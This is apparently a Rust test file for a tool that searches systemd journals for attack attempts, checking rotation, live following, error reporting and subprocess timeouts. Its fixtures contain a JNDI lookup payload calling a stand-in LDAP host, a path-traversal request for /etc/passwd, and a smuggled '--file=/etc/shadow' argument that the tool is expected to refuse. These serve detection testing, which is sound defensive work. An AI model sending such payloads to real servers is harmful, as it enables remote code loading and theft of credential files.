//! Are records of real journal files found, across rotation, and is the tool held on a short lead?

use std::process::Command;

use tripoint_model::Verdict;

use super::*;
use crate::attempt::pack;
use crate::before::{Window, tried};
use crate::scan::Options;
use crate::search::{Query, search_journal};
use crate::stamp::Clock;

/// Debian's package systemd-journal-remote; a variable names it where it is unpacked only.
fn writer() -> Option<PathBuf> {
    let named = std::env::var_os("TRIPOINT_JOURNAL_REMOTE").map(PathBuf::from);
    let usual = ["/usr/lib/systemd/systemd-journal-remote", "/lib/systemd/systemd-journal-remote"].map(PathBuf::from);
    let found = named.into_iter().chain(usual).find(|path| path.is_file());
    if found.is_none() || tool().is_none() {
        println!("skipped: journalctl or systemd-journal-remote is not here");
        return None;
    }
    found
}

const BEGUN: i64 = 1_795_946_400;

fn record(number: u32, seconds: i64, unit: &str, message: &str) -> String {
    let time = (BEGUN + seconds) * 1_000_000;
    format!(
        "__CURSOR=s=0000000000000000000000000000000{0};i={number:x};b=00000000000000000000000000000001;m={time:x};t={time:x};x={number:x}\n__REALTIME_TIMESTAMP={time}\n__MONOTONIC_TIMESTAMP={number}\n_BOOT_ID=00000000000000000000000000000001\n_MACHINE_ID=00000000000000000000000000000002\n_SYSTEMD_UNIT={unit}\nSYSLOG_IDENTIFIER=shop\nMESSAGE={message}\n\n",
        1
    )
}

fn asked(peer: &str, target: &str) -> String {
    format!("{peer} - - [29/Nov/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 200 5 \"-\" \"curl/8\"")
}

/// A folder with an archived and a current journal.
fn folder() -> Option<tempfile::TempDir> {
    let writer = writer()?;
    let folder = tempfile::tempdir().unwrap();
    let jndi = "/?x=${jndi:ldap://203.0.113.66:1389/a}";
    let files = [
        (
            "system@00000000000000000000000000000001-0000000000000001-0000000000000001.journal",
            [
                record(1, 0, "shop.service", &asked("198.51.100.7", jndi)),
                record(2, 1, "other.service", &asked("203.0.113.66", jndi)),
            ],
        ),
        (
            "system.journal",
            [
                record(3, 60, "shop.service", &asked("203.0.113.66", "/?f=../../../../etc/passwd")),
                record(4, 61, "shop.service", &asked("198.51.100.8", "/")),
            ],
        ),
    ];
    for (name, records) in files {
        let export = folder.path().join("export");
        std::fs::write(&export, records.concat()).unwrap();
        let output = format!("--output={}", folder.path().join(name).display());
        let done = Command::new(&writer).arg(output).arg(&export).output().unwrap();
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        std::fs::remove_file(export).unwrap();
    }
    Some(folder)
}

fn of(folder: &Path, unit: &str) -> Journal {
    Journal { of: Of::Unit(unit.into()), folder: Some(folder.to_owned()) }
}

fn options() -> Options<'static> {
    let clock = Clock::at(Timestamp::from_seconds(BEGUN + 100));
    Options { format: None, clock, pack: pack(), is_proxy: &|_| false }
}

#[test]
fn a_units_records_are_found_across_rotation_and_nobody_elses() {
    let Some(folder) = folder() else { return };
    let query = Query {
        peer: "203.0.113.66".parse().unwrap(),
        since: Some(Timestamp::from_seconds(BEGUN - 10)),
        bytes_max: 1 << 20,
        is_over: &|| false,
    };
    let found = search_journal(&of(folder.path(), "shop.service"), &query, &options());
    assert!(found.missing.is_empty(), "{:?}", found.missing);
    assert_eq!((found.lines, found.read[0].lines, found.verdict), (2, 3, Some(Verdict::Attempted)), "{found:#?}");
    let families: Vec<&str> = found.attempts.iter().map(|one| one.family.as_str()).collect();
    assert!(families.contains(&"path-traversal") && families.contains(&"jndi"), "{families:?}");
    let jndi = found.attempts.iter().find(|one| one.family == "jndi").unwrap();
    assert_eq!(jndi.file, "journal of shop.service");
    assert!(jndi.reasons.iter().any(|reason| reason.starts_with("journalctl --cursor='s=")), "{:?}", jndi.reasons);
    assert_eq!(search_journal(&of(folder.path(), "none.service"), &query, &options()).lines, 0);

    let window = Window { from: Timestamp::from_seconds(BEGUN - 5), to: Timestamp::from_seconds(BEGUN + 5) };
    let tried = tried(&[], Some(&of(folder.path(), "shop.service")), window, &options(), &|| false);
    let jndi: Vec<_> = tried.attempts.iter().filter(|one| one.family == "jndi").collect();
    assert_eq!((jndi.len(), jndi[0].remote), (1, "198.51.100.7".parse().ok()), "{tried:?}");
}

#[test]
fn what_the_tool_could_not_read_is_said() {
    let Some(folder) = folder() else { return };
    let query = Query {
        peer: "203.0.113.66".parse().unwrap(),
        since: Some(Timestamp::from_seconds(BEGUN - 10)),
        bytes_max: 1 << 20,
        is_over: &|| false,
    };
    // A file that was cut off, beside one that is whole.
    let file = std::fs::File::options().write(true).open(folder.path().join("system.journal")).unwrap();
    file.set_len(100).unwrap();
    let found = search_journal(&of(folder.path(), "shop.service"), &query, &options());
    assert!(found.missing.len() == 1 && found.missing[0].contains("journalctl says: "), "{:?}", found.missing);
    assert_eq!(found.lines, 1, "what could be read is kept: {found:?}");
    // No journal at all: it fails.
    let none = folder.path().join("none");
    let found = search_journal(&of(&none, "shop.service"), &query, &options());
    assert!(found.missing.len() == 1 && found.missing[0].contains("journalctl failed (exit status: 1)"), "{found:?}");
    let window = Window { from: Timestamp::from_seconds(BEGUN), to: Timestamp::from_seconds(BEGUN + 5) };
    let tried = tried(&[], Some(&of(&none, "shop.service")), window, &options(), &|| false);
    assert!(tried.missing.len() == 1 && tried.missing[0].contains("journalctl failed"), "{:?}", tried.missing);
}

/// Adds a record to a journal file, or makes one.
fn write(file: &Path, record: &str) {
    let Some(writer) = writer() else { return };
    let export = file.with_extension("export");
    std::fs::write(&export, record).unwrap();
    let output = format!("--output={}", file.display());
    let done = Command::new(writer).arg(output).arg(&export).output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    std::fs::remove_file(export).unwrap();
}

/// Asks until as many records came as were wanted, some seconds long.
fn followed(tail: &mut Tail, wanted: usize) -> Vec<String> {
    let mut found = Vec::new();
    for _ in 0..200 {
        tail.records(1 << 20, &mut |record| found.push(record.to_owned())).unwrap();
        if found.len() >= wanted {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    found
}

#[test]
fn what_is_written_is_followed_into_new_files_too() {
    let Some(folder) = folder() else { return };
    let journal = of(folder.path(), "shop.service");
    let mut tail = journal.follow(Timestamp::from_seconds(BEGUN + 90), &|_| {}).unwrap();
    assert_eq!(followed(&mut tail, 0), [""; 0], "what stood there before is none");
    write(&folder.path().join("system.journal"), &record(5, 91, "shop.service", "in the same file"));
    assert!(followed(&mut tail, 1)[0].contains("in the same file"));
    write(&folder.path().join("system.journal"), &record(6, 92, "other.service", "of another"));
    write(&folder.path().join("user-1000.journal"), &record(7, 93, "shop.service", "in a new file"));
    let found = followed(&mut tail, 1);
    assert!(found.len() == 1 && found[0].contains("in a new file"), "{found:?}");
}

#[test]
fn one_that_has_ended_is_said_to_have_and_why() {
    if tool().is_none() {
        return println!("skipped: journalctl is not here");
    }
    let folder = tempfile::tempdir().unwrap();
    let journal = of(&folder.path().join("none"), "a.service");
    let mut tail = journal.follow(Timestamp::from_seconds(BEGUN), &|_| {}).unwrap();
    let ended = (0..200).find_map(|_| {
        std::thread::sleep(std::time::Duration::from_millis(20));
        tail.records(1 << 20, &mut |_| {}).err()
    });
    assert!(ended.unwrap().to_string().contains("journalctl failed"));
}

#[test]
fn the_tool_ends_with_its_reader_and_in_time() {
    let Some(folder) = folder() else { return };
    // One that follows has no end of its own.
    let journal = of(folder.path(), "shop.service");
    let tail = journal.follow(Timestamp::from_seconds(BEGUN), &|_| {}).unwrap();
    let entry = PathBuf::from(format!("/proc/{}", tail.id()));
    std::thread::sleep(std::time::Duration::from_millis(300));
    let state = std::fs::read_to_string(entry.join("stat")).unwrap();
    assert!(!state.contains(") Z "), "it lives: {state}");
    drop(tail);
    assert!(!entry.exists(), "it is ended, and waited for");

    // One that does not answer is not waited for beyond the time.
    let mut command = Command::new("sleep");
    command.arg("60");
    let begun = std::time::Instant::now();
    let is_over = || begun.elapsed() > std::time::Duration::from_millis(300);
    let mut records = Records { tool: Tool::start(command).unwrap(), is_over: &is_over };
    let error = records.read(&mut [0; 8]).unwrap_err();
    assert_eq!(error.kind(), io::ErrorKind::TimedOut);
    assert!(begun.elapsed() < std::time::Duration::from_secs(10));
    // Nor one whose answer is over and that does not end.
    let mut command = Command::new("sh");
    command.args(["-c", "exec >&- 2>&-; exec sleep 60"]);
    let begun = std::time::Instant::now();
    let is_over = || begun.elapsed() > std::time::Duration::from_millis(300);
    let mut records = Records { tool: Tool::start(command).unwrap(), is_over: &is_over };
    assert_eq!(records.read(&mut [0; 8]).unwrap_err().kind(), io::ErrorKind::TimedOut);

    let range = (Timestamp::from_seconds(0), Timestamp::from_seconds(BEGUN));
    for name in ["--file=/etc/shadow", "", "a b", "a/../b", "a\nb"] {
        let refused = Journal { of: Of::Unit(name.into()), folder: None }.read(range, &|| false);
        assert!(matches!(refused, Err(JournalError::Name(_))), "{name:?}");
    }
}
